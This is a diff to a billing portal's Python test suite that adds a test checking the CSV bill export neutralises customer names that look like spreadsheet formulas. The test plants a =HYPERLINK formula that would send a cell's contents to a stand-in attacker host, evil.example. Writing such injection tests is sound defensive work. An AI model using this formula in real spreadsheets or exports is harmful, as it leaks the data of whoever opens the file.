@@ -1,14 +1,15 @@
 """My bills and View online bill: scoped to the viewer's accounts, filtered, keyset-paginated."""
 
+import csv
 import html
 import json
 import re
 from typing import Any
 
 from portal.bills.services import STATUSES
-from portal.db.tables import Account, Bill
+from portal.db.tables import Account, Bill, Customer
 from tests.conftest import submit
-from tests.steps import ADMIN, ANA, error_messages, sign_in, submit_sign_in
+from tests.steps import ADMIN, ANA, ANA_IDENTITY, error_messages, sign_in, submit_sign_in
 
 EXPORT_HEADER = "bill_number,account,holder,period_start,period_end,issue_date,due_date,amount_eur,status"
 """The columns of every export of bills (bills.csv, the Excel list, the zip's index)."""
@@ -190,3 +191,13 @@ async def test_list_as_csv_has_every_matching_bill(client: Any, demo: None) -> N
     overdue = (await client.get("/bills/bills.csv?status=overdue")).text.strip().splitlines()
     assert len(overdue) == 2 and overdue[1].endswith(",Overdue")  # the label, as in the zip's index.csv
     assert (await client.get("/bills/bills.csv?period_from_month=1&period_from_year=nope")).status_code == 422
+
+
+async def test_a_holder_name_like_a_formula_is_text_in_the_csv(client: Any, demo: None) -> None:
+    """Names come from customers: one a spreadsheet would run gets a quote before it; amounts stay numbers."""
+    formula = '=HYPERLINK("http://evil.example/?x="&B2,"Open")'
+    await Customer.update({Customer.name: formula}).where(Customer.identity_number == ANA_IDENTITY)
+    await sign_in(client)
+    rows = list(csv.DictReader((await client.get("/bills/bills.csv")).text.splitlines()))
+    assert rows and {row["holder"] for row in rows} == {"'" + formula}
+    assert all(float(row["amount_eur"]) > 0 and row["due_date"][:2] == "20" for row in rows)
